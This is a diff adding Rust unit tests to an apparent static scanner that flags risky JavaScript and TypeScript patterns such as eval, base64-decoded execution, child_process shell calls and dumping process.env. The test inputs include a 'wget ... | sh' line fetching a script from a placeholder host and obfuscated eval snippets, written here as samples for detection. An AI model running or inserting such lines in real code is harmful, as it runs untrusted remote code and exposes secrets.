@@ -739,3 +739,106 @@ impl Js<'_> {
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::lang::scan_one;
+
+    fn rules(src: &str) -> Vec<String> {
+        scan_one("t.js", src).0
+    }
+
+    #[test]
+    fn eval_and_function() {
+        assert_eq!(rules("eval(code);\n"), vec!["js-eval@1:1"]);
+        assert_eq!(
+            rules("const f = new Function('a', body);\n"),
+            vec!["js-eval@1:11"]
+        );
+        assert_eq!(rules("eval('1 + 1');\n"), vec!["exec-literal@1:1"]);
+        assert_eq!(rules("globalThis['ev' + 'al'](x);\n"), vec!["js-eval@1:1"]);
+        assert_eq!(rules("\\u0065val(x);\n"), vec!["js-eval@1:1"]);
+        assert!(rules("setTimeout(() => run(), 10);\n").is_empty());
+    }
+
+    #[test]
+    fn decoded_code_is_obfuscated_exec() {
+        assert_eq!(
+            rules("new Function(atob('eA=='))();\n"),
+            vec!["obfuscated-exec@1:1"]
+        );
+        let via = "const s = Buffer.from(p, 'base64').toString();\neval(s);\n";
+        assert_eq!(rules(via), vec!["obfuscated-exec@2:1"]);
+        assert!(
+            rules("eval(String.fromCharCode(97, 98));\n")
+                .contains(&"obfuscated-exec@1:1".to_owned())
+        );
+    }
+
+    #[test]
+    fn child_process_through_aliases() {
+        let (r, u) = scan_one(
+            "t.js",
+            "const { execFile: ef } = require('node:child_process');\nef('git', ['status']);\n",
+        );
+        assert_eq!(r, vec!["proc-spawn@2:1"]);
+        assert!(u.exec.contains_key("git"));
+        let (r, _) = scan_one(
+            "t.js",
+            "import cp from 'child_process';\ncp.spawn('bash', ['-c', cmd]);\n",
+        );
+        assert!(r.contains(&"shell-c@2:1".to_owned()), "{r:?}");
+        let (r, u) = scan_one(
+            "t.js",
+            "const cp = require('child_process');\ncp.exec('wget -qO- https://x.example/a | sh');\n",
+        );
+        assert!(r.contains(&"remote-pipe-exec@2:1".to_owned()), "{r:?}");
+        assert!(u.hosts.contains_key("x.example:443"));
+    }
+
+    #[test]
+    fn network_env_and_writes() {
+        let src = "import https from 'node:https';\nconst HOST = 'api.example.com';\nhttps.request({ host: HOST, port: 8443 });\nfetch(`https://cdn.example.org/${p}`);\nconst t = process.env.API_TOKEN;\nconst { REGION } = process.env;\nconst all = JSON.stringify(process.env);\nrequire('fs').writeFileSync('/srv/out.json', d);\n";
+        let (r, u) = scan_one("t.js", src);
+        assert!(u.network.is_some());
+        assert!(
+            u.hosts.contains_key("api.example.com:8443"),
+            "{:?}",
+            u.hosts
+        );
+        assert!(u.hosts.contains_key("cdn.example.org:443"), "{:?}", u.hosts);
+        assert!(
+            u.env.contains_key("API_TOKEN") && u.env.contains_key("REGION"),
+            "{:?}",
+            u.env
+        );
+        assert!(r.contains(&"env-enumerate@7:28".to_owned()), "{r:?}");
+        assert!(u.writes.contains_key("/srv/out.json"));
+    }
+
+    #[test]
+    fn dynamic_require_and_native_addons() {
+        assert_eq!(
+            rules("const m = require(name);\n"),
+            vec!["dynamic-import@1:11"]
+        );
+        assert_eq!(
+            rules("const m = await import(`./${x}.js`);\n"),
+            vec!["dynamic-import@1:17"]
+        );
+        assert_eq!(
+            rules("require('./build/addon.node');\n"),
+            vec!["native-ffi@1:1"]
+        );
+        assert!(rules("const path = require('path');\n").is_empty());
+    }
+
+    #[test]
+    fn typescript_parses_with_types() {
+        let (r, _) = scan_one(
+            "t.ts",
+            "const x: string = input as string;\nconst y = eval(x!);\n",
+        );
+        assert_eq!(r, vec!["js-eval@2:11"]);
+    }
+}
